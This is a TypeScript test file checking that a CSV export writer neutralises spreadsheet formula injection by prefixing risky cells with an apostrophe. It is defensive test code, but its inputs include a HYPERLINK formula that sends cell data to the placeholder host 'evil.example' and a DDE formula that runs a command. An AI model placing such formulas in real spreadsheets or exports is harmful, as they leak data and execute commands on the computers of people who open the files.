import { csvField, toCsv } from '../../domain/csv';
import type { EvaluationReport } from '../../domain/evaluation';
import { evaluationCsv } from '../../domain/evaluationCsv';

describe('the CSV writer against formula injection', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'neutralises a text cell starting with %j, so that no spreadsheet runs it',
    (start) => {
      const payload = `${start}HYPERLINK("http://evil.example/?"&A1,"click")`;
      const field = csvField(payload);
      // The cell is quoted (it holds a quote) and starts with the apostrophe spreadsheets read as "text".
      expect(field).toBe(`"'${payload.replace(/"/g, '""')}"`);
      const plain = csvField(`${start}1+1`);
      expect(plain.replace(/^"/, '')).toMatch(/^'/);
      expect(plain.replace(/^"|"$/g, '')).toBe(`'${start}1+1`);
    },
  );

  it('leaves numbers, ordinary text and a sign inside a cell alone', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField('-12.50')).toBe('-12.50'); // an amount in 元, as text
    expect(csvField('-12.50+1')).toBe("'-12.50+1");
    expect(csvField(+2.5)).toBe('2.5');
    expect(csvField('保贷联动 / 授信额度（分）')).toBe('保贷联动 / 授信额度（分）');
    expect(csvField('a-b=c@d')).toBe('a-b=c@d');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('neutralises every cell of a document, the evaluation export included', () => {
    expect(toCsv([['=cmd|"/c calc"!A1', '@SUM(A1)', 5]])).toBe(
      '\uFEFF"\'=cmd|""/c calc""!A1",\'@SUM(A1),5\r\n',
    );
    // The export walks the report generically: a text figure that looks like a formula comes out inert.
    const csv = evaluationCsv({ year: 2026, note: '+1-555-0100' } as unknown as EvaluationReport);
    expect(csv.split('\r\n')).toContain("summary,,note,总体 / note,'+1-555-0100,");
  });
});
